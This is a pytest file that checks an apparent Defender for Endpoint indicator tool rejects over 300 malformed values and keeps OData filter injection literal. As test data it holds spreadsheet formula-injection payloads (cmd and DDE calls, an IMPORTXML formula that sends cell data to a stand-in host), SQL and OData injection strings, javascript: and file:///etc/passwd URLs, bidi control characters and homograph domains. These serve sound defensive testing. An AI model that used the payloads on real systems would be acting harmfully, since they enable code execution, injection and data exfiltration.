"""Bad input never reaches the API: 300+ malformed values through the core (CLI) path and the Splunk command,
each settled as invalid with the reason code a SOC engineer would expect for it; OData injection through
filters stays inside the literal."""

from __future__ import annotations

import json
from typing import Dict, Iterable, List, Tuple

import pytest
from click.testing import CliRunner

from mde_emulator import EmulatorServer
from mde_indicators.cli import main
from mde_indicators.service import IndicatorService
from mde_testkit.splunk.harness import SplunkHarness

SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
HASHES = {"FileMd5": 32, "FileSha1": 40, "FileSha256": 64, "CertificateThumbprint": 40}
Case = Tuple[str, str, str, str]  # (category, type, value, expected reason code)


def cases(category: str, itype: str, pairs: Iterable[Tuple[str, str]]) -> List[Case]:
    return [(category, itype, value, code) for value, code in pairs]


def malformed_hashes() -> List[Case]:
    out: List[Case] = []
    for itype, length in HASHES.items():
        good = SHA256[:length]
        out += cases("malformed hash", itype, [
            (good[:-1], "hash_length"),
            (good + "a", "hash_length"),
            (good[: length // 2], "hash_length"),
            (good * 2, "hash_length"),
            (good[:-1] + "g", "hash_not_hex"),
            (good[:-1] + "z", "hash_not_hex"),
            ("0x" + good[:-2], "hash_not_hex"),
            ("sha256:" + good, "hash_not_hex,hash_length"),
            (good[:10] + "-" + good[11:], "hash_not_hex"),
            (good[:-1] + "=", "hash_not_hex"),
            (good.replace("e", "é", 1), "hash_not_hex"),
            ("G" * length, "hash_not_hex"),
        ])  # fmt: skip
    return out


def cidr_and_ranges() -> List[Case]:
    return cases("CIDR or range", "IpAddress", [
        ("1.2.3.0/24", "ip_cidr"),
        ("8.8.8.8/32", "ip_cidr"),
        ("10.0.0.0/8", "ip_cidr"),
        ("185.220.101.0/24", "ip_cidr"),
        ("0.0.0.0/0", "ip_cidr"),
        ("2001:4860::/32", "ip_cidr"),
        ("2001:4860:4860::8888/128", "ip_cidr"),
        ("::/0", "ip_cidr"),
        ("1.2.3.4-1.2.3.9", "ip_range"),
        ("1.2.3.4 - 1.2.3.9", "ip_range"),
        ("185.220.101.1-185.220.101.254", "ip_range"),
        ("1.2.3.*", "ip_wildcard"),
        ("1.2.*.*", "ip_wildcard"),
        ("8.8.8.0-255", "ip_range"),
        ("2a03:b0c0::1-2a03:b0c0::ff", "ip_range"),
        ("1.2.3.4/33", "ip_cidr"),
        ("52.1.1.1/31", "ip_cidr"),
        ("100.1.1.0/25", "ip_cidr"),
        ("1.1.1.1,1.0.0.1", "ip_invalid"),  # two addresses in one value
        ("8.8.8.8 8.8.4.4", "ip_invalid"),
    ])  # fmt: skip


def private_and_reserved() -> List[Case]:
    return cases("private or reserved IP", "IpAddress", [
        ("10.0.0.1", "ip_private"),
        ("10.255.255.254", "ip_private"),
        ("172.16.0.1", "ip_private"),
        ("172.31.255.254", "ip_private"),
        ("192.168.0.1", "ip_private"),
        ("192.168.255.255", "ip_private"),
        ("127.0.0.1", "ip_loopback"),
        ("127.8.9.10", "ip_loopback"),
        ("169.254.1.1", "ip_link_local"),
        ("169.254.169.254", "ip_link_local"),
        ("224.0.0.1", "ip_multicast"),
        ("239.1.2.3", "ip_multicast"),
        ("0.0.0.0", "ip_unspecified"),
        ("0.1.2.3", "ip_private"),  # 0.0.0.0/8, "this network" (RFC 1122): never a remote peer
        ("255.255.255.255", "ip_reserved"),
        ("240.1.2.3", "ip_reserved"),
        ("100.64.1.1", "ip_not_public"),  # shared address space (RFC 6598)
        ("100.127.255.254", "ip_not_public"),
        ("192.0.2.1", "ip_documentation"),
        ("198.51.100.200", "ip_documentation"),
        ("203.0.113.50", "ip_documentation"),
        ("198.18.5.5", "ip_not_public"),  # benchmarking (RFC 2544)
        ("192.0.0.8", "ip_not_public"),  # IETF protocol assignments
        ("::1", "ip_loopback"),
        ("::", "ip_unspecified"),
        ("fe80::1", "ip_link_local"),
        ("fe80::abcd:1234", "ip_link_local"),
        ("fc00::1", "ip_private"),
        ("fd00:1234::5", "ip_private"),
        ("ff02::1", "ip_multicast"),
        ("ff05::2", "ip_multicast"),
        ("2001:db8::1", "ip_documentation"),
        ("2001:db8:85a3::8a2e:370:7334", "ip_documentation"),
        ("::ffff:10.0.0.1", "ip_v4_mapped"),
        ("::ffff:8.8.8.8", "ip_v4_mapped"),
        ("64:ff9b::a00:1", "ip_embedded_not_public"),  # NAT64 of 10.0.0.1
        ("100::1", "ip_reserved"),  # discard-only (RFC 6666)
        ("2001:10::1", "ip_private"),  # ORCHID
        ("2002:a00:1::1", "ip_embedded_not_public"),  # 6to4 of 10.0.0.1
        ("fe80::1%eth0", "ip_zone"),
    ])  # fmt: skip


def wildcard_domains() -> List[Case]:
    return cases("wildcard domain", "DomainName", [
        ("*.example.com", "domain_wildcard"),
        ("*.evil.example", "domain_wildcard"),
        ("ex*mple.com", "domain_wildcard"),
        ("*example.com", "domain_wildcard"),
        ("example.*", "domain_wildcard"),
        ("*.*.example.org", "domain_wildcard"),
        ("a.*.example.net", "domain_wildcard"),
        ("*", "domain_wildcard"),
        ("*.com", "domain_wildcard"),
        ("mail.*.example.co.uk", "domain_wildcard"),
        ("%.example.com", "domain_invalid"),  # SQL-style and glob-style marks are not hostname characters
        ("?.example.com", "domain_invalid"),
        ("example.com*", "domain_wildcard"),
        ("*.xn--bcher-kva.example", "domain_wildcard"),
        ("**.example.com", "domain_wildcard"),
    ])  # fmt: skip


def homographs() -> List[Case]:
    values = [
        "pаypal.com",
        "аpple.com",
        "аррӏе.com",
        "micrоsoft.com",
        "gооgle.com",
        "gοogle.com",
        "amazοn.com",
        "faсebook.com",
        "linkedіn.com",
        "оffice.com",
        "login.micrоsoftonline.com",
        "раураӏ.com",
        "gооgle.net",
        "bаnk.example",
        "sесurity.example",
        "xn--pypal-4ve.com.аpple.com",
        "twіtter.com",
        "netfliх.com",
        "dropbοx.com",
        "githuь.com",
    ]
    return cases("IDN homograph", "DomainName", [(v, "domain_homograph") for v in values]) + cases(
        "IDN homograph", "Url", [(f"https://{v}/login", "url_host_homograph") for v in values[:10]]
    )


def credential_urls() -> List[Case]:
    return cases("URL with credentials", "Url", [
        ("https://user:pass@example.com/", "url_credentials"),
        ("http://admin@evil.example/x", "url_credentials"),
        ("https://a:b@c.example/d?e=f", "url_credentials"),
        ("https://user%40corp:p@example.com", "url_credentials"),
        ("http://:@example.com/", "url_credentials"),
        ("https://token@github.example/", "url_credentials"),
        ("http://user:pw@185.220.101.45/", "url_credentials"),
        ("https://u:p@[2001:4860:4860::8888]/", "url_credentials"),
        ("https://x@y@example.com/", "url_credentials"),
        ("ftp://user:pass@example.com/", "url_scheme"),  # the scheme is checked first
        ("https://me:secret@login.example.org/path", "url_credentials"),
        ("http://root:toor@evil.example:8080/", "url_credentials"),
        ("https://a@b.example", "url_credentials"),
        ("https://user:@example.com/", "url_credentials"),
        ("https://:pass@example.com/", "url_credentials"),
    ])  # fmt: skip


def spaces_and_newlines() -> List[Case]:
    out: List[Case] = []
    for itype, value, space in (
        ("FileSha256", SHA256, "hash_whitespace"),
        ("IpAddress", "185.220.101.45", "ip_invalid"),
        ("DomainName", "evil.example.com", "domain_whitespace"),
        ("Url", "https://evil.example.com/a/b", "url_whitespace"),
    ):
        middle = len(value) // 2
        for sep, code in (
            (" ", space),
            ("\n", "value_control_chars"),
            ("\r\n", "value_control_chars"),
            ("\t", "value_control_chars"),
            ("\u00a0", space),
        ):
            out.append(("space or newline", itype, value[:middle] + sep + value[middle:], code))
    out += [
        ("space or newline", "Url", "https://example.com/path with space", "url_whitespace"),
        ("space or newline", "DomainName", "evil .example.com", "domain_whitespace"),
        ("space or newline", "Url", "https://example.com/\n/etc/passwd", "value_control_chars"),
    ]
    return out


def oversized() -> List[Case]:
    return [
        ("oversized", "DomainName", "a" * 300 + ".com", "domain_too_long"),
        ("oversized", "DomainName", ".".join(["label"] * 60) + ".com", "domain_too_long"),
        ("oversized", "DomainName", "x" * 64 + ".example.com", "domain_label_too_long"),
        ("oversized", "Url", "https://example.com/" + "a" * 3000, "value_too_long"),
        ("oversized", "Url", "https://" + "a" * 300 + ".com/", "url_host_too_long"),
        ("oversized", "FileSha256", SHA256 * 100, "value_too_long"),
        ("oversized", "IpAddress", "1" * 5000, "value_too_long"),
        ("oversized", "Url", "https://example.com/?" + "q=1&" * 1000, "value_too_long"),
        ("oversized", "DomainName", "a" * 100_000, "value_too_long"),
        ("oversized", "FileMd5", "a" * 1_000_000, "value_too_long"),
    ]


def control_characters() -> List[Case]:
    # C0 and C1 controls, zero-width and bidi marks, and the bidi isolates of "Trojan Source"
    # (CVE-2021-42574, U+2066..U+2069), inside the value and, for URLs, at the end of the path.
    chars = [chr(c) for c in range(0, 32) if chr(c) not in "\t\n\r"] + [
        "\x7f",
        "\x85",
        "\u200b",
        "\u200e",
        "\u202e",
        "\u2066",
        "\ufeff",
        "\u2028",
    ]
    out: List[Case] = []
    for n, ch in enumerate(chars):
        itype, value = [
            ("DomainName", "evil.example.com"),
            ("Url", "https://evil.example.com/x"),
            ("FileSha256", SHA256),
        ][n % 3]
        out.append(("control character", itype, value[:5] + ch + value[5:], "value_control_chars"))
    for ch in ("\u202e", "\u2066", "\u2067", "\u2068", "\u2069"):
        value = f"https://evil.example.com/invoice{ch}fdp.exe"
        out.append(("control character", "Url", value, "value_control_chars"))
    return out


def formula_injection() -> List[Case]:
    # (value, as auto-detected, as DomainName, as Url): never a spreadsheet formula in MDE or an export.
    table = [
        ("=cmd|' /C calc'!A0", "url_whitespace", "domain_is_url", "url_whitespace"),
        ('=HYPERLINK("http://evil.example","x")', "url_scheme", "domain_is_url", "url_scheme"),
        ("+1+1", "type_undetected", "domain_single_label", "url_scheme"),
        ("-2+3", "type_undetected", "domain_single_label", "url_scheme"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "url_whitespace", "domain_is_url", "url_whitespace"),
        ("=1+2", "type_undetected", "domain_single_label", "url_scheme"),
        ('=IMPORTXML(CONCAT("http://evil.example/?", A1),"//a")', "url_whitespace", "domain_is_url", "url_whitespace"),
        ("\t=1+1", "type_undetected", "domain_single_label", "url_scheme"),
        ("\r=1+1", "type_undetected", "domain_single_label", "url_scheme"),
        ('=DDE("cmd";"/C calc";"!A0")', "url_whitespace", "domain_is_url", "url_whitespace"),
        ("+cmd|' /C notepad'!A0", "url_whitespace", None, None),
        ("-cmd|' /C calc'!A0", "url_whitespace", None, None),
        ("@cmd|' /C calc'!A0", "url_whitespace", None, None),
        ('=WEBSERVICE("http://evil.example")', "url_scheme", None, None),
        ("=1;2", "type_undetected", None, None),
    ]  # fmt: skip
    out: List[Case] = []
    for itype, column in (("auto", 1), ("DomainName", 2), ("Url", 3)):
        out += [("formula injection", itype, row[0], c) for row in table if (c := row[column])]
    return out


def malformed_domains_urls_and_ips() -> List[Case]:
    domains = cases("malformed domain", "DomainName", [
        ("-bad.example", "domain_invalid"),
        ("bad-.example", "domain_invalid"),
        ("bad..example", "domain_empty_label"),
        ("localhost", "domain_single_label"),
        ("intranet", "domain_single_label"),
        ("example.123", "domain_invalid_tld"),
        ("exa$mple.com", "domain_invalid"),
        ("a@b.example", "domain_invalid"),
        ("example.com:443", "domain_invalid"),
        ("http://evil.example", "domain_is_url"),
        ("evil.example/path", "domain_is_url"),
        ("8.8.8.8", "domain_is_ip"),
        (".example.com", "domain_empty_label"),
        ("xn--.example", "domain_idna"),
        ("exa mple.com", "domain_whitespace"),
        ("example.c", "domain_invalid_tld"),
    ])  # fmt: skip
    urls = cases("malformed URL", "Url", [
        ("evil.example/path", "url_scheme"),
        ("ftp://evil.example/x", "url_scheme"),
        ("javascript:alert(1)", "url_scheme"),
        ("file:///etc/passwd", "url_scheme"),
        ("data:text/html,<script>", "url_scheme"),
        ("https:///nohost", "url_no_host"),
        ("http://", "url_no_host"),
        ("https:\\\\evil.example\\x", "url_invalid"),
        ("https://evil.example:99999/", "url_invalid"),
        ("https://evil.example:port/", "url_invalid"),
        ("https://10.0.0.5/admin", "url_host_ip_private"),
        ("http://127.0.0.1:8080/", "url_host_ip_loopback"),
        ("https://localhost/x", "url_host_single_label"),
        ("gopher://evil.example/", "url_scheme"),
    ])  # fmt: skip
    ips = cases("malformed IP", "IpAddress", [
        ("256.1.1.1", "ip_invalid"),
        ("1.2.3", "ip_invalid"),
        ("01.2.3.4", "ip_invalid"),
        ("1.2.3.4.5", "ip_invalid"),
        ("::g", "ip_invalid"),
        ("1:2:3:4:5:6:7:8:9", "ip_invalid"),
        ("evil.example", "ip_invalid"),
        ("1.2.3.4:80", "ip_invalid"),
        ("[2001:4860:4860::8888]", "ip_invalid"),
        ("0x08080808", "ip_invalid"),
    ])  # fmt: skip
    return domains + urls + ips


CASES: List[Case] = (
    malformed_hashes() + cidr_and_ranges() + private_and_reserved() + wildcard_domains() + homographs()
    + credential_urls() + spaces_and_newlines() + oversized() + control_characters() + formula_injection()
    + malformed_domains_urls_and_ips()
)  # fmt: skip


def test_there_are_more_than_300_distinct_cases() -> None:
    assert len(CASES) >= 300 and len({(t, v) for _, t, v, _ in CASES}) == len(CASES)


def items() -> List[Dict[str, str]]:
    return [{"indicatorValue": v, "indicatorType": t, "action": "Allowed"} for _, t, v, _ in CASES]


def unexpected(got: List[Tuple[str, str]]) -> List[str]:
    """Cases whose (status, reason code) differ from (invalid, the expected code), shown readably."""
    return [
        f"{category}: {itype} {value[:60]!r} -> {status} {code} (expected invalid {expected})"
        for (category, itype, value, expected), (status, code) in zip(CASES, got)
        if (status, code) != ("invalid", expected)
    ]


def test_none_reaches_the_api_through_the_core(
    emulator: EmulatorServer, service: IndicatorService
) -> None:
    results = service.import_indicators(items())
    assert len(results) == len(CASES)
    assert unexpected([(r.status.value, r.reason_code or "") for r in results]) == []
    assert all(r.reason for r in results)
    assert [
        e for e in emulator.requests_log() if e.get("op") != "token" and e.get("op") != "oidc"
    ] == []


def test_none_reaches_the_api_through_mdesubmit(
    emulator: EmulatorServer, splunk: SplunkHarness
) -> None:
    rows = [{"indicator": v, "kind": t} for _, t, v, _ in CASES]
    run = splunk.run(
        "mdesubmit field=indicator type_field=kind action=Allowed account=reliability",
        rows,
        chunk_size=100,
    )
    assert run.returncode == 0, run.errors() or run.stderr[-1000:]
    assert len(run.rows) == len(rows)
    assert {r["mde_status"] for r in run.rows} == {"invalid"}
    assert all(r["mde_error"] for r in run.rows)
    assert [e for e in emulator.requests_log() if e.get("op") == "ImportIndicators"] == []


INJECTIONS = [
    "x' or indicatorValue ne 'y",
    "x') or (1 eq 1",
    "' or '1' eq '1",
    "x' or true or 'a' eq 'a",
    "x'; DROP TABLE indicators; --",
    "x' and contains(title,'",
    "%27 or 1 eq 1",
    "x'%20or%20'1'%20eq%20'1",
    "''",
    "x\\' or 1 eq 1",
    "x' eq 'x' or indicatorType ne 'z",
    "$filter=indicatorValue ne ''",
    "x'&$top=10000&$filter=indicatorValue ne '",
    "x' or indicatorValue/any(v: v ne '')",
    "not(indicatorValue eq 'x')",
]


@pytest.fixture()
def seeded(emulator: EmulatorServer, emulator_env: Dict[str, str]) -> Dict[str, str]:
    emulator.admin("POST", "seed", {"clientId": emulator_env["MDE_CLIENT_ID"], "count": 3})
    return emulator_env


@pytest.mark.parametrize("injection", INJECTIONS)
def test_odata_injection_through_the_cli_filter_stays_a_literal(
    injection: str, seeded: Dict[str, str], emulator: EmulatorServer
) -> None:
    done = CliRunner().invoke(
        main, ["list", "--value", injection, "--json"], env=seeded, catch_exceptions=False
    )
    assert (
        done.exit_code == 0
        and json.loads(done.stdout if hasattr(done, "stdout") else done.output) == []
    )
    (call,) = [e for e in emulator.requests_log() if e.get("op") == "ListIndicators"]
    assert call["status"] == 200


@pytest.mark.parametrize("injection", INJECTIONS[:8])
def test_odata_injection_through_mdelist_stays_a_literal(
    injection: str, emulator: EmulatorServer, splunk: SplunkHarness, emulator_env: Dict[str, str]
) -> None:
    emulator.admin("POST", "seed", {"clientId": emulator_env["MDE_CLIENT_ID"], "count": 3})
    quoted = injection.replace('"', '\\"')
    run = splunk.run(f'mdelist value="{quoted}" account=reliability')
    assert [r for r in run.rows if r.get("indicatorValue")] == []
    assert all(
        e["status"] in (200, 400)
        for e in emulator.requests_log()
        if e.get("op") == "ListIndicators"
    )
